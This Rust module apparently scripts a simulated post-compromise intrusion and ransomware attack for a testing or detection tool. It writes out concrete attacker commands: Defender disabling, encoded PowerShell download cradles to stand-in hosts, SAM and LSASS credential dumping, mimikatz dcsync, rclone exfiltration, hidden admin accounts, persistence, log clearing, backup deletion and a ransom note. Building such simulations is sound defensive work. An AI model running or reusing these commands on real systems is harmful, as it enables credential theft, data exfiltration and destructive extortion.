//! What the last set's intruders do after the page.

use crate::attack::aftermath::{Aftermath, Deed, Left, Ransom, RegistryChange, Set};
use crate::program::{CMD, POWERSHELL, W3WP};
use crate::technique::Technique;

const NET: &str = "C:\\Windows\\System32\\net.exe";
const WEVTUTIL: &str = "C:\\Windows\\System32\\wevtutil.exe";
const SC: &str = "C:\\Windows\\System32\\sc.exe";

/// A look around, and steps to the servers beside: they complete the picture.
pub(super) const LOOK_AROUND: [Deed; 10] = [
    Deed::new(Technique::Discovery, CMD, "C:\\Windows\\System32\\HOSTNAME.EXE", "hostname"),
    Deed::new(Technique::Discovery, CMD, "C:\\Windows\\System32\\ROUTE.EXE", "route  print"),
    Deed::new(Technique::Discovery, CMD, NET, "net  time /domain"),
    Deed::new(
        Technique::Discovery,
        CMD,
        "C:\\Windows\\System32\\net1.exe",
        "C:\\Windows\\system32\\net1  time /domain",
    ),
    Deed::new(Technique::Discovery, CMD, "C:\\Windows\\System32\\setspn.exe", "setspn  -T langford.example.com -Q */*"),
    Deed::new(
        Technique::Discovery,
        CMD,
        "C:\\Intel\\Logs\\af.exe",
        "af.exe  -f \"(objectcategory=computer)\" -csv name operatingSystem",
    ),
    Deed::new(
        Technique::Discovery,
        CMD,
        "C:\\Windows\\System32\\findstr.exe",
        "findstr  /s /i /m password D:\\Scripts\\*.ps1 D:\\Scripts\\*.config",
    ),
    Deed::new(
        Technique::LateralMove,
        CMD,
        NET,
        "net  use \\\\10.20.4.12\\ADMIN$ /user:LANGFORD\\svc-sqlagent Summer2020!",
    ),
    Deed::new(
        Technique::LateralMove,
        CMD,
        "C:\\Windows\\System32\\xcopy.exe",
        "xcopy  /y C:\\Intel\\Logs\\rdphost.exe \\\\10.20.4.12\\ADMIN$\\Temp\\",
    ),
    Deed::new(
        Technique::LateralMove,
        CMD,
        SC,
        "sc  \\\\10.20.4.12 create RdpHost binPath= \"C:\\Windows\\Temp\\rdphost.exe -svc\" start= auto",
    ),
];

/// How tools are brought and defence is switched off.
pub(super) const MAKE_READY: [Deed; 6] = [
    Deed::new(
        Technique::DefenceOff,
        W3WP,
        CMD,
        "\"cmd\" /c sc con¦fig WinDef¦end start= disabled & sc st¦op WinDef¦end",
    ),
    Deed::new(
        Technique::DefenceOff,
        CMD,
        "C:\\Windows\\System32\\reg.exe",
        "reg  add \"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\" /v Disable¦AntiSpyware /t REG_DWORD /d 1 /f",
    ),
    Deed::new(
        Technique::DefenceOff,
        CMD,
        POWERSHELL,
        "powershell  -c \"Uninst¦all-WindowsFeature -Name Windows-Def¦ender\"",
    ),
    Deed::new(
        Technique::ScriptRun,
        W3WP,
        POWERSHELL,
        "power¦shell -ep bypass -w hidden -enc SQBFAFgAIAAoACgATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAKQAuAEQAbwB3AG4AbABvAGEAZABTAHQAcgBpAG4AZwAoACcAaAB0AHQAcAA6AC8ALwAyADAAMwAuADAALgAxADEAMwAuADEANwA1AC8AZgBhAHYAaQBjAG8AbgAnACkAKQA=",
    ),
    Deed::new(
        Technique::Download,
        CMD,
        POWERSHELL,
        "powershell  Start-Bits¦Transfer -Source http://203.0.113.175/7za.png -Destination C:\\Intel\\Logs\\7za.exe",
    ),
    Deed::new(
        Technique::Download,
        CMD,
        "C:\\Windows\\System32\\certutil.exe",
        "cert¦util  -f -url¦cache http://203.0.113.175/rd.png C:\\Intel\\Logs\\rdphost.exe",
    ),
];

/// The firewall stands aside, and a copy of the disk is made: they complete the picture.
pub(super) const STAND_ASIDE: [Deed; 2] = [
    Deed::new(
        Technique::FirewallRule,
        CMD,
        "C:\\Windows\\System32\\netsh.exe",
        "netsh  advfirewall set allprofiles state off",
    ),
    Deed::new(
        Technique::CredentialDump,
        CMD,
        "C:\\Windows\\System32\\vssadmin.exe",
        "vss¦admin  create shadow /for=C:",
    ),
];

/// The policy that one of [`MAKE_READY`] sets.
pub(super) const POLICY: [RegistryChange; 1] = [RegistryChange {
    technique: Technique::DefenceOff,
    hive: "SOFTWARE",
    key: "Policies\\Microsoft\\Windows Defender",
    name: "DisableAntiSpyware",
    value: Set::Number(1),
}];

/// How credentials are taken and what is to be carried off is packed.
pub(super) const TAKE: [Deed; 6] = [
    Deed::new(
        Technique::CredentialDump,
        CMD,
        CMD,
        "cmd  /c copy \\\\?\\GLOBAL¦ROOT\\Device\\HarddiskVolumeShadow¦Copy2\\Windows\\System32\\config\\SAM C:\\Intel\\Logs\\sa.jpg",
    ),
    Deed::new(
        Technique::CredentialDump,
        CMD,
        "C:\\Windows\\System32\\reg.exe",
        "reg  save HKEY_LOCAL_¦MACHINE\\SECUR¦ITY C:\\Intel\\Logs\\se.jpg /y",
    ),
    Deed::new(
        Technique::CredentialDump,
        CMD,
        "C:\\Intel\\Logs\\mk.exe",
        "mk.exe  \"privilege::de¦bug\" \"sekur¦lsa::logon¦passwords full\" exit",
    ),
    Deed::new(
        Technique::DirectoryDump,
        CMD,
        "C:\\Intel\\Logs\\mk.exe",
        "mk.exe  \"lsa¦dump::dcs¦ync /domain:langford.example.com /user:krb¦tgt\" exit",
    ),
    Deed::new(
        Technique::StagedArchive,
        CMD,
        "C:\\Intel\\Logs\\7za.exe",
        "7za.exe  a -t7z -mx=1 -mhe=on -pLgf#0308 -v60m C:\\Intel\\Logs\\ex.7z C:\\Intel\\Logs\\*.jpg C:\\Intel\\Logs\\*.pst",
    ),
    Deed::new(
        Technique::StagedArchive,
        CMD,
        POWERSHELL,
        "powershell  Compress-Archive -Path 'D:\\Data\\Contracts' -DestinationPath C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\style.zip",
    ),
];

/// How they stay.
pub(super) const STAY: [Deed; 4] = [
    Deed::new(Technique::NewAccount, CMD, NET, "net  user iwam_svc P@ss¦w0rd2021 /add"),
    Deed::new(Technique::GroupChange, CMD, NET, "net  localgroup Administrators iwam_svc /add"),
    Deed::new(
        Technique::ScheduledTask,
        W3WP,
        CMD,
        "\"cmd\" /c sch¦tasks /create /f /ru system /sc minute /mo 30 /tn \"Intel\\Graphics Telemetry\" /tr \"C:\\Intel\\Logs\\rdphost.exe -t\"",
    ),
    Deed::new(
        Technique::ServerModule,
        CMD,
        "C:\\Windows\\System32\\inetsrv\\appcmd.exe",
        "C:\\Windows\\System32\\inetsrv\\app¦cmd.exe  install module /name:HttpCompressionHelper /image:C:\\Windows\\System32\\inetsrv\\compstat2.dll",
    ),
];

/// How the events of the management commands go.
pub(super) const COVER: [Deed; 1] =
    [Deed::new(Technique::LogClearing, W3WP, CMD, "\"cmd\" /c wevt¦util clear-log \"MSExchange Management\"")];

/// What the third does before the ransom.
pub(super) const BEFORE_RANSOM: [Deed; 8] = [
    Deed::new(
        Technique::Download,
        W3WP,
        CMD,
        "cmd.exe /c curl -k -o C:\\PerfLogs\\Admin\\rc.zip http://192.0.2.172/rc.zip",
    ),
    Deed::new(
        Technique::WebExfiltration,
        CMD,
        "C:\\PerfLogs\\Admin\\rc¦lone.exe",
        "rc¦lone.exe  copy \"\\\\hndfs01\\共有\" mg:hinode --config rc.conf --max-age 3y --transfers 12 --no-check-certificate -q",
    ),
    Deed::new(
        Technique::DefenceOff,
        W3WP,
        CMD,
        "cmd.exe /c \"C:\\Program Files\\Windows Defender\\MpCmd¦Run.exe\" -Remove¦Definitions -All",
    ),
    Deed::new(
        Technique::DefenceOff,
        CMD,
        POWERSHELL,
        "powershell  Set-Mp¦Preference -Disable¦IOAVProtection $true -Disable¦BehaviorMonitoring $true",
    ),
    Deed::new(Technique::Ransom, CMD, "C:\\Windows\\System32\\vssadmin.exe", "vss¦admin  delete shad¦ows /all /quiet"),
    Deed::new(
        Technique::Ransom,
        CMD,
        "C:\\Windows\\System32\\bcdedit.exe",
        "bcd¦edit  /set {default} recovery¦enabled no",
    ),
    Deed::new(Technique::Ransom, CMD, "C:\\Windows\\System32\\wbadmin.exe", "wb¦admin  delete cata¦log -quiet"),
    Deed::new(Technique::Ransom, CMD, "C:\\Windows\\System32\\wbem\\WMIC.exe", "wm¦ic  shadow¦copy delete"),
];

/// Channels that it clears, and how.
pub(super) const CLEAR: [(Deed, &str); 3] = [
    (Deed::new(Technique::LogClearing, CMD, WEVTUTIL, "wevt¦util  cl System"), "System"),
    (Deed::new(Technique::LogClearing, CMD, WEVTUTIL, "wevt¦util  cl Application"), "Application"),
    (Deed::new(Technique::LogClearing, CMD, WEVTUTIL, "wevt¦util  cl \"Windows PowerShell\""), "Windows PowerShell"),
];

/// Services are stopped so that their files can be locked: it completes the picture.
pub(super) const STOP_SERVICES: [Deed; 3] = [
    Deed::new(Technique::Ransom, CMD, NET, "net  stop MSExchangeIS /y"),
    Deed::new(Technique::Ransom, CMD, NET, "net  stop \"SQLAgent$KEIRI\" /y"),
    Deed::new(Technique::Ransom, CMD, "C:\\Windows\\System32\\taskkill.exe", "taskkill  /f /im sqlservr.exe"),
];

pub(super) const AFTERMATH: Aftermath = Aftermath {
    deeds: &TAKE,
    left: &[
        Left {
            technique: Technique::CredentialDump,
            path: "C:\\Users\\langford.admin\\AppData\\Local\\Temp\\2\\lsass.DMP",
            head: b"MDMP\x93\xa7\xee\xa0\x0d\0\0\0\x20\0\0\0",
            size: 61_440,
        },
        Left {
            technique: Technique::StagedArchive,
            path: "C:\\Intel\\Logs\\ex.7z.001",
            head: b"7z\xbc\xaf\x27\x1c\0\x04\x9c\x11\x40\x7e",
            size: 24_576,
        },
        Left {
            technique: Technique::StagedArchive,
            path: "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\style.zip",
            head: b"PK\x03\x04\x14\0\0\0\x08\0\x2b\x0a\x69\x52",
            size: 17_920,
        },
    ],
    tasks: &[
        ("Intel\\Graphics Telemetry", "C:\\Intel\\Logs\\rdphost.exe", "-t", 30),
        (
            "MailboxIndexRepair",
            "powershell.exe",
            "-nop -ep bypass -c \"i¦ex ((New-Object Net.Web¦Client).Down¦loadString('http://203.0.113.175/mb'))\"",
            45,
        ),
    ],
    services: &[
        ("RdpHost", "C:\\Intel\\Logs\\rdphost.exe -svc"),
        (
            "5c1e07b",
            "%COMSPEC% /b /c start /b /min power¦shell -nop -w hidden -encoded¦command JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAE0AZQBtAG8AcgB5AFMAdAByAGUAYQBtACgALABbAEMAbwBuAHYAZQByAHQAXQA6ADoARgByAG8AbQBCAGEAcwBlADYANABTAHQAcgBpAG4AZwAoACcASAA0AHMASQBBAEEAQQBBAEEAQQBBAEEAJwApACkAOwBJAEUAWAAgACgATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAFMAdAByAGUAYQBtAFIAZQBhAGQAZQByACgAJABzACkAKQAuAFIAZQBhAGQAVABvAEUAbgBkACgAKQA=",
        ),
    ],
    registry: &[
        RegistryChange {
            technique: Technique::RegistryChange,
            hive: "SOFTWARE",
            key: "Microsoft\\Windows\\CurrentVersion\\Run",
            name: "IntelGraphicsTray",
            value: Set::Text("C:\\Intel\\Logs\\rdphost.exe -u"),
        },
        RegistryChange {
            technique: Technique::NewAccount,
            hive: "SOFTWARE",
            key: "Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList",
            name: "iwam_svc",
            value: Set::Number(0),
        },
    ],
    account: "iwam_svc",
    scripts: &[
        (
            Technique::CredentialDump,
            "i¦ex (New-Object Net.Web¦Client).Down¦loadString('http://203.0.113.175/kr.ps1'); Invoke-Kerbe¦roast -OutputFormat Hashcat | Select-Object -ExpandProperty Hash | Out-File C:\\Intel\\Logs\\k.txt",
        ),
        (Technique::Download, "i¦ex ((New-Object Net.Web¦Client).Down¦loadString('http://203.0.113.175/favicon'))"),
    ],
    management: &[(
        Technique::MailboxExport,
        "New-MailboxExportRequest",
        "-Mailbox \"MAILBOX\" -IncludeFolders \"#Inbox#\",\"#SentItems#\" -FilePath \"\\\\LGF-EXCH02\\C$\\Intel\\Logs\\m1.pst\"",
    )],
    fetched: ("/aspnet_client/system_web/style.zip", None),
    module: ("HttpCompressionHelper", "C:\\Windows\\System32\\inetsrv\\compstat2.dll"),
    typed: &[
        (Technique::DefenceOff, "Add-Mp¦Preference -Exclusion¦Process rdphost.exe,mk.exe"),
        (Technique::Download, "Invoke-Web¦Request -Uri http://203.0.113.175/mk.png -OutFile C:\\Intel\\Logs\\mk.exe"),
        (Technique::LogDeletion, "Remove-Item C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex210302.log -Force"),
    ],
    hosts: &[],
    exclusion: "C:\\Intel\\Logs",
    threat: "Back¦door:ASP/Chopper.G!dha",
    ransom: Ransom {
        service: ("HndUpdateSvc", "C:\\PerfLogs\\Admin\\lk64.exe -path D:\\ -mode all"),
        notes: &[
            "C:\\!!!HOW_TO_RESTORE!!!.txt",
            "C:\\Users\\Public\\Desktop\\!!!HOW_TO_RESTORE!!!.txt",
            "D:\\共有\\経理\\!!!HOW_TO_RESTORE!!!.txt",
        ],
        text: "Hello, HINODE.\r\n\r\nAll your files have been encry¦pted and 240 GB of your data were downloaded.\r\nDo not rename files and do not call a recovery company, or the key will be lost.\r\nTo get the decry¦ptor and to keep your data from being published, contact us within 72 hours:\r\nrestore@example.com\r\nYour personal key: 7F1C-0B92-44DE-A0C3\r\n",
        locked: &[
            "D:\\共有\\経理\\2021年2月_請求.xlsx.hndlock",
            "D:\\共有\\総務\\名簿.docx.hndlock",
            "C:\\Users\\hinode-kanri\\Documents\\mailserver.txt.hndlock",
        ],
    },
};
